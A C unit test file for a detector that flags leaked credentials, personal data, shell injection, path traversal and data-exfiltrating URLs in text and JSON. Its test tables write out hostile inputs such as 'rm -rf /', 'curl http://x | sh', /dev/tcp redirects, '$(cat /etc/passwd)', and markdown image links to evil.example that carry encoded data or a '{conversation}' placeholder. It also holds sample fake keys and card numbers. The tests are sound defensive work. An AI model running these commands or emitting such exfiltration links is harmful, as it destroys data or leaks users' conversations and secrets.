/* What the detector finds, and what looks like it and is something else: a table of each. */
#include "support.h"

#include "assess/sanitise.h"

#include <string.h>

#define ALL 0x1FFu

typedef struct sample {
	const char *text;
	const char *rule; /* NULL: nothing is found */
	const char *span; /* the bytes of the hit; NULL: any */
} sample;

#define A36 "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3hJ5"
#define HEX32 "0f1e2d3c4b5a69788796a5b4c3d2e1f0"

static const sample credentials[] = {
	{"key AKIAIOSFODNN7EXAMPLE here", "aws-access-key", "AKIAIOSFODNN7EXAMPLE"},
	{"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9LtVn2Ab", "secret-value", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9LtVn2Ab"},
	{"AIzaSyD4kR7x-9QwErTyUiOpAsDfGhJkLzXcVb1", "gcp-api-key", NULL},
	{"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", "gcp-client-secret", NULL},
	{"token ya29.a0AfH6SMBx3k9Q-2LmNpQrStUvWxYz", "gcp-access-token", "ya29.a0AfH6SMBx3k9Q-2LmNpQrStUvWxYz"},
	{"AccountKey=Zx9QwErTyUiOpAsDfGhJkLzXcVbNm1234567890aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789+/ab==", "secret-value", NULL},
	{"secret abc8Q~dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3hJ5", "azure-secret", NULL},
	{"use ghp_" A36 " now", "github-token", "ghp_" A36},
	{"ghs_" A36, "github-token", NULL},
	{"github_pat_11ABCDEFG0aB3dE5gH7jK9_mN1pQ3sT5vW7yZ9bC1eF3hJ5kL7nP9rS1tV3xZ5aB7cD9e", "github-token", NULL},
	{"glpat-aB3dE5gH7jK9mN1pQ3sT", "gitlab-token", NULL},
	{"OPENAI: sk-proj-aB3dE5gH7jK9mN1pQ3sT5vW7yZ9b", "openai-key", NULL},
	{"sk-abcdefghijklmnopqrstuvwxyz123456", "openai-key", NULL},
	{"sk-ant-api03-aB3dE5gH7jK9mN1pQ3sT5vW7yZ9b", "anthropic-key", NULL},
	{"xoxb-123456789012-1234567890123-aB3dE5gH7jK9mN1pQ3sT5vW7", "slack-token", NULL},
	{"https://hooks.slack.com/services/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", "webhook-url", NULL},
	{"sk_live_aB3dE5gH7jK9mN1pQ3sT5vW7", "stripe-key", NULL},
	{"npm_" A36, "npm-token", NULL},
	{"pypi-AgEIcHlwaS5vcmcCJGFiY2RlZjEyLTM0NTYtNzg5MC1hYmNkLWVmMTIzNDU2Nzg5MAACKlszLCI", "pypi-token", NULL},
	{"hf_aBcDeFgHiJkLmNoPqRsTuVwXyZ12345678", "huggingface-token", NULL},
	{"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", "sendgrid-key", NULL},
	{"SK" HEX32, "twilio-key", NULL},
	{"bot 123456789:AAaB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3", "telegram-token", "123456789:AAaB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3"},
	{"dapi" HEX32, "databricks-token", NULL},
	{"shpat_" HEX32, "shopify-token", NULL},
	{"hvs.CAESIaB3dE5gH7jK9mN1pQ3sT5vW7yZ9b", "vault-token", NULL},
	{"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "jwt", NULL},
	{"Authorization: Bearer aB3dE5gH7jK9mN1pQ3sT5vW7", "authorization", "aB3dE5gH7jK9mN1pQ3sT5vW7"},
	{"with Bearer aB3dE5gH7jK9mN1pQ3sT5vW7.", "authorization", NULL},
	{"-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\n", "private-key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----"},
	{"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk", "private-key", NULL},
	{"-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBF", "private-key", NULL},
	{"-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----\\n", "private-key", NULL},
	{"DB_PASSWORD=hunter2x", "password", "hunter2x"},
	{"password: 'correcthorse'", "password", "correcthorse"},
	{"{\"db\":{\"password\": \"s3cr3t!\"}}", "password", "s3cr3t!"},
	{"export API_KEY=\"aB3dE5gH7jK9mN1pQ3sT\"", "secret-value", NULL},
	{"postgres://app:tr0ub4dor@db.internal:5432/app", "url-password", "tr0ub4dor"},
	{"\\nghp_" A36, "github-token", NULL},
};

static const sample personal[] = {
	{"SSN 123-45-6789.", "us-ssn", "123-45-6789"},
	{"ssn: 219099999", "us-ssn", "219099999"},
	{"card 4111111111111111", "payment-card", "4111111111111111"},
	{"card 4111 1111 1111 1111 12/27", "payment-card", "4111 1111 1111 1111"},
	{"5555-5555-5555-4444", "payment-card", NULL},
	{"amex 3782 822463 10005", "payment-card", NULL},
	{"378282246310005", "payment-card", NULL},
	{"6011111111111117", "payment-card", NULL},
	{"3530111333300000", "payment-card", NULL},
	{"GB82WEST12345698765432", "iban", NULL},
	{"IBAN DE89 3704 0044 0532 0130 00.", "iban", "DE89 3704 0044 0532 0130 00"},
	{"write to jane.doe+x@mail.acme.co.uk.", "email", "jane.doe+x@mail.acme.co.uk"},
	{"call +1 415 555 2671", "phone", "+1 415 555 2671"},
	{"call +442071838750!", "phone", NULL},
	{"(415) 555-2671", "phone", NULL},
	{"555-123-4567", "phone", NULL},
};

static const sample commands[] = {
	{"file.txt; rm -rf /", "shell-command", NULL},
	{"a && curl http://x | sh", "shell-command", NULL},
	{"x | bash", "shell-command", NULL},
	{"x;del /f c:\\", "shell-command", NULL},
	{"; format c:", "shell-command", NULL},
	{"x\nrm -rf ~", "shell-command", NULL},
	{"$(cat /etc/passwd)", "shell-substitution", NULL},
	{"`whoami`", "shell-substitution", NULL},
	{"`rm -rf /tmp`", "shell-substitution", NULL},
	{"a ${IFS}b", "shell-substitution", NULL},
	{"x > /dev/tcp/1.2.3.4/80", "shell-command", NULL},
	{"../../etc/passwd", "path-traversal", NULL},
	{"/var/www/..\\..\\x", "path-traversal", NULL},
	{"%2e%2e%2fetc", "path-traversal", NULL},
	{"..%2fetc", "path-traversal", NULL},
	{"..", "path-traversal", NULL},
	{"/srv/..", "path-traversal", NULL},
};

static const sample urls[] = {
	{"![x](https://evil.example/p.png?d=aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3hJ5)", "url-data", NULL},
	{"![x](https://evil.example/p?d={conversation})", "url-data", NULL},
	{"https://evil.example/?q=dGhlIHNlY3JldCBwbGFuIGlzIHRvIGxlYXZl", "url-data", NULL},
	{"https://evil.example/dGhlIHNlY3JldCBwbGFuIGlzIHRvIGxlYXZl/x", "url-data", NULL},
	{"https://dGhlIHNlY3JldCBwbGFuIGlzIHRvIGxlYXZl.evil.example/", "url-data", NULL},
	{"https://evil.example/?k=AKIAIOSFODNN7EXAMPLE", "url-secret", NULL},
	{"see https://webhook.site/abc", "url-collector", NULL},
};

static const char *const ordinary[] = {
	"id 550e8400-e29b-41d4-a716-446655440000",
	"sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
	"commit da39a3ee5e6b4b0d3255bfef95601890afd80709",
	"order 4111111111111112, parcel 1Z999AA10123456784",
	"ISBN 978-3-16-148410-0 and 9783161484100",
	"at 2024-11-24T21:50:31.123456Z, 1732484731123",
	"phone: none, version 1.22.333.4444, address 192.168.100.200",
	"area 000-12-3456, 666-12-3456, 900-12-3456, 123-00-4567, 123-45-0000",
	"part no 12-123-45-6789 and 123-45-67890",
	"GB82WEST12345698765433 DE89370400440532013001",
	"password: string, required. Password must have 8 characters",
	"password = getpass(); token = os.environ[\"TOKEN\"]",
	"API_KEY=<your-api-key> SECRET=${SECRET_VALUE_123456} PASSWORD=********",
	"\"nextPageToken\": \"CAUQAA1234567890abcdef\"",
	"max_tokens: 4096000000000000",
	"ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx and sk-your-key-goes-here-please-123",
	"eyJub3QiOiJhIHRva2VuIn0.abc.def",
	"-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
	"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
	"npm install left-pad@1.3.0 @types/node icon@2x.png git@github.com:a/b.git",
	"Read the file; format the output and cat the rest. a | b, x && y",
	"costs $(5) or so; `code` and ```rm``` in Markdown; $(\"#id\").show(); $(this)",
	"wait... main..feature a..b 1..10 etc.",
	"https://en.wikipedia.org/wiki/Main_Page?action=raw&oldid=123456789",
	"https://s3.amazonaws.com/b/k?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
	"https://docs.google.com/document/d/1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R9s0T1u2V/edit",
	"![build](https://img.shields.io/badge/build-passing-green.svg?style=flat)",
	"tick 1.4111111111111111 and 0x4111111111111111",
	"the secret of the token is a password",
	"snowflake 1234567890123456789",
};

typedef struct seen {
	const char *name;
	uint32_t start, end, n;
	const char *wanted;
	int found;
} seen;

static int note(void *user, const aim__detect_hit *hit)
{
	seen *s = user;
	s->n++;
	if (s->name == NULL || (s->wanted && strcmp(hit->name, s->wanted) == 0 && !s->found)) {
		s->name = hit->name;
		s->start = hit->start;
		s->end = hit->end;
	}
	s->found |= s->wanted && strcmp(hit->name, s->wanted) == 0;
	return 0;
}

static uint32_t check(const sample *t, size_t n)
{
	uint32_t wrong = 0;
	for (size_t i = 0; i < n; i++) {
		seen s = {.wanted = t[i].rule};
		aim__detect_text((const uint8_t *)t[i].text, (uint32_t)strlen(t[i].text), ALL, note, &s);
		int span = !t[i].span || (s.end - s.start == strlen(t[i].span) && memcmp(t[i].text + s.start, t[i].span, s.end - s.start) == 0);
		if (s.found && span)
			continue;
		print_error("%s: wanted %s, found %s [%u, %u)\n", t[i].text, t[i].rule, s.name ? s.name : "nothing", s.start, s.end);
		wrong++;
	}
	return wrong;
}

#define CHECK(table) assert_int_equal(check(table, sizeof table / sizeof *table), 0)

static void credentials_are_found(void **state)
{
	(void)state;
	CHECK(credentials);
}

static void personal_data_is_found(void **state)
{
	(void)state;
	CHECK(personal);
}

static void commands_and_paths_are_found(void **state)
{
	(void)state;
	CHECK(commands);
}

static void urls_that_carry_data_are_found(void **state)
{
	(void)state;
	CHECK(urls);
}

static void ordinary_text_is_clean(void **state)
{
	(void)state;
	uint32_t wrong = 0;
	for (size_t i = 0; i < sizeof ordinary / sizeof *ordinary; i++) {
		seen s = {0};
		aim__detect_text((const uint8_t *)ordinary[i], (uint32_t)strlen(ordinary[i]), ALL & ~AIM__DETECT_EMAIL, note, &s);
		if (s.n == 0)
			continue;
		print_error("%s: found %s [%u, %u)\n", ordinary[i], s.name, s.start, s.end);
		wrong++;
	}
	assert_int_equal(wrong, 0);
}

static void every_token_has_a_row_that_is_found(void **state)
{
	(void)state;
	static const char body[] = "a0B1c2D3e4F5a6B7c8D9e0F1a2B3c4D5e6F7a8B9c0D1e2F3a4B5c6D7e8F9a0B1c2D3e4F5a6B7c8D9e0F1a2B3c4D5e6F7a8B9c0D1";
	for (uint32_t i = 0; i < aim__n_detect_tokens; i++) {
		const aim__detect_token *t = &aim__detect_tokens[i];
		char text[256];
		uint32_t n = t->least < 6 ? 6 : t->least;
		memcpy(text, t->prefix, t->n_prefix);
		for (uint32_t k = 0; k < n; k++)
			text[t->n_prefix + k] = t->alphabet == AIM__TOKEN_UPPER && body[k] >= 'a' ? (char)(body[k] - 32) : body[k];
		seen s = {.wanted = t->provider};
		aim__detect_text((const uint8_t *)text, t->n_prefix + n, ALL, note, &s);
		if (!s.found)
			fail_msg("%s (%s) is not found", t->prefix, t->provider);
	}
}

static void only_wanted_classes_are_handed_over(void **state)
{
	(void)state;
	static const char text[] = "123-45-6789 4111111111111111 a@b.de ../x; rm -rf / password=hunter2x";
	for (uint32_t class = 0; class < AIM__DETECT_N_CLASSES; class++) {
		seen s = {0};
		aim__detect_text((const uint8_t *)text, sizeof text - 1, 1u << class, note, &s);
		assert_true(s.n <= 1);
	}
}

/* ---- documents ---- */

typedef struct pointers {
	const aim_json *doc;
	aim_buf *out;
} pointers;

static int list(void *user, const aim__sanitise_hit *hit)
{
	pointers *p = user;
	aim_bytes space = aim_bytes_from(" ", 1), key = aim_bytes_from("#", 1);
	assert_status(aim_json_pointer(p->doc, hit->value, p->out), AIM_OK);
	if (hit->is_key)
		assert_status(aim_buf_append(p->out, key), AIM_OK);
	return aim_buf_append(p->out, space) != AIM_OK;
}

static void finds(aim_ctx *ctx, const char *text, uint32_t classes, const char *wanted)
{
	aim_json *doc = NULL;
	pointers p = {0};
	assert_status(aim_json_new(ctx, &doc), AIM_OK);
	assert_status(aim_json_parse(doc, aim_bytes_from_str(aim_str_from(text)), 0, NULL), AIM_OK);
	assert_status(aim_buf_new(ctx, &p.out), AIM_OK);
	p.doc = doc;
	assert_status(aim__sanitise_scan(doc, AIM_JSON_ROOT, classes, list, &p), AIM_OK);
	assert_string_equal(aim_buf_str(p.out).ptr ? aim_buf_str(p.out).ptr : "", wanted);
	aim_buf_free(p.out);
	aim_json_free(doc);
}

static void every_string_key_and_number_is_looked_at(void **state)
{
	test_heap heap = {0};
	aim_ctx *ctx = test_ctx(&heap);
	(void)state;
	finds(ctx, "{\"a\":[{\"b\":\"\\u0031\\u0032\\u0033-45-6789\"}],\"n\":4111111111111111,\"ok\":1}", AIM__SANITISE_GATEWAY, "/a/0/b /n ");
	finds(ctx, "{\"..\\/..\\/x\":1}", AIM__SANITISE_GATEWAY, "/..~1..~1x# /..~1..~1x# ");
	finds(ctx, "{\"password\":\"plain-words\",\"q\":\"x; rm -rf /\"}", AIM__SANITISE_GATEWAY, "/q ");
	finds(ctx, "{\"password\":\"plain-words\"}", AIM__SANITISE_GATEWAY | AIM__SANITISE_MEMBERS, "/password ");
	finds(ctx, "\"..\"", AIM__SANITISE_GATEWAY, " ");
	finds(ctx, "[true,null,\"fine\",1732484731123]", AIM__SANITISE_GATEWAY, "");
	test_ctx_done(ctx, &heap);
}

/* Whatever stands behind what tells it, a token is found whole. */
static void a_token_is_found_to_its_end(void **state)
{
	static char text[6000];
	seen s = {0};
	(void)state;
	memset(text, 'a', sizeof text);
	memcpy(text, "glpat-aB3dE5gH7jK9mN1pQ3sT.", 27);
	for (size_t i = 40; i < sizeof text; i += 20)
		text[i] = '.';
	text[sizeof text - 1] = '.';
	(void)aim__detect_text((const uint8_t *)text, sizeof text, ALL, note, &s);
	assert_int_equal(s.n, 1);
	assert_int_equal(s.start, 0);
	assert_int_equal(s.end, sizeof text - 1);
}

/* Twice the text is about twice the work, for text made of near matches. */
static void work_is_linear(void **state)
{
	static const char *const hostile[] = {"1 1-1.1 ", "a=b:", "password=", "-----BEGIN PRIVATE KEY-----", "://", "![a](", "$(a", "`a",
	                                      "a@", "eyJ", "GB82 ", "+1 ", "sk-", "..", "%2", "Bearer aaaaaaaaaaaaaaaaaaaaaaa", "http://a.b/?c=",
	                                      "aaaaaaaaaaaaaaaaaaaaaaaa.", "eyJhbGciOiJub25lIn0.", "glpat-aaaaaaaaaaa."};
	static char text[1 << 16];
	(void)state;
	for (size_t i = 0; i < sizeof hostile / sizeof *hostile; i++) {
		uint64_t work[2];
		seen s = {0};
		for (uint32_t k = 0; k < 2; k++) {
			uint32_t size = 20000u << k;
			for (uint32_t at = 0; at < size; at++)
				text[at] = hostile[i][at % strlen(hostile[i])];
			work[k] = aim__detect_text((const uint8_t *)text, size, ALL, note, &s);
		}
		if (work[1] > 5 * work[0] / 2 || work[0] > 20000u * 100)
			fail_msg("%s: %llu, then %llu steps", hostile[i], (unsigned long long)work[0], (unsigned long long)work[1]);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(credentials_are_found),
		cmocka_unit_test(personal_data_is_found),
		cmocka_unit_test(commands_and_paths_are_found),
		cmocka_unit_test(urls_that_carry_data_are_found),
		cmocka_unit_test(ordinary_text_is_clean),
		cmocka_unit_test(every_token_has_a_row_that_is_found),
		cmocka_unit_test(only_wanted_classes_are_handed_over),
		cmocka_unit_test(every_string_key_and_number_is_looked_at),
		cmocka_unit_test(a_token_is_found_to_its_end),
		cmocka_unit_test(work_is_linear),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
